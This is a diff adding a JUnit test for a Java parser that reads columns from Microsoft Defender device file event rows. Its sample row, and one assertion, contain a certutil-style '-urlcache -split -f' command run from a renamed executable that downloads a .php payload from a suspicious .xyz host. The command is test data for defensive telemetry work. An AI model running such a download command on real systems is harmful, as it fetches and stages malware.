@@ -1,0 +1,80 @@
+package dev.bazahunt.telemetry;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.ObjectInputStream;
+import java.io.ObjectOutputStream;
+import org.junit.jupiter.api.Test;
+
+/** Reading a column by wire name returns, as text, exactly what the parser stored for it. */
+class DefenderColumnReaderTest {
+
+    /**
+     * One row with every kind of column: text, integer, datetime with seven fractional digits, and the
+     * event time. Each one must read back as the text Defender wrote.
+     */
+    private static final String FILE_ROW = """
+            {"Timestamp":"2021-07-20T14:02:58.1034567Z","DeviceId":"b2c4e6a8f0123456789abcdef0123456789abcde",
+             "ReportId":4127,"FileSize":"291840","InitiatingProcessFileName":"x8k2.exe",
+             "InitiatingProcessCommandLine":"x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php",
+             "InitiatingProcessCreationTime":"2021-07-20T14:02:57.9920000Z","FileOriginUrl":"http://pshe0pxe339.xyz/"}
+            """;
+
+    @Test
+    void everyColumnOfTheTableHasAReader() {
+        for (DefenderColumns.Column column : DefenderColumns.all()) {
+            assertThat(DefenderColumnReader.forColumn(column.wireName)).as(column.wireName).isNotNull();
+        }
+    }
+
+    @Test
+    void columnsReadBackAsTheTextDefenderWrote() {
+        DeviceFileEvent event = CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();
+
+        assertThat(read("Timestamp", event)).isEqualTo("2021-07-20T14:02:58.1034567Z");
+        assertThat(read("DeviceId", event)).isEqualTo("b2c4e6a8f0123456789abcdef0123456789abcde");
+        assertThat(read("ReportId", event)).isEqualTo("4127");
+        assertThat(read("FileSize", event)).isEqualTo("291840");
+        assertThat(read("InitiatingProcessCreationTime", event)).isEqualTo("2021-07-20T14:02:57.9920000Z");
+        assertThat(read("InitiatingProcessCommandLine", event))
+                .isEqualTo("x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php");
+        assertThat(read("FileOriginUrl", event)).isEqualTo("http://pshe0pxe339.xyz/");
+    }
+
+    @Test
+    void absentValuesAndOtherTablesColumnsReadAsNull() {
+        DeviceFileEvent event = CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();
+
+        assertThat(read("InitiatingProcessAccountName", event)).isNull();
+        assertThat(read("InitiatingProcessParentId", event)).isNull();
+        assertThat(read("ProcessCommandLine", event)).isNull();
+    }
+
+    @Test
+    void unknownAndMisspelledColumnsHaveNoReader() {
+        assertThat(DefenderColumnReader.forColumn("InitiatingProcessComandLine")).isNull();
+        assertThat(DefenderColumnReader.forColumn("initiatingprocesscommandline")).isNull();
+        assertThat(DefenderColumnReader.forColumn(null)).isNull();
+    }
+
+    @Test
+    void aDeserializedReaderStillReads() throws Exception {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
+            out.writeObject(DefenderColumnReader.forColumn("InitiatingProcessFileName"));
+        }
+        DefenderColumnReader copy;
+        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
+            copy = (DefenderColumnReader) in.readObject();
+        }
+        DeviceFileEvent event = CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();
+
+        assertThat(copy.read(event)).isEqualTo("x8k2.exe");
+    }
+
+    private static String read(String wireName, DeviceEvent event) {
+        return DefenderColumnReader.forColumn(wireName).read(event);
+    }
+}
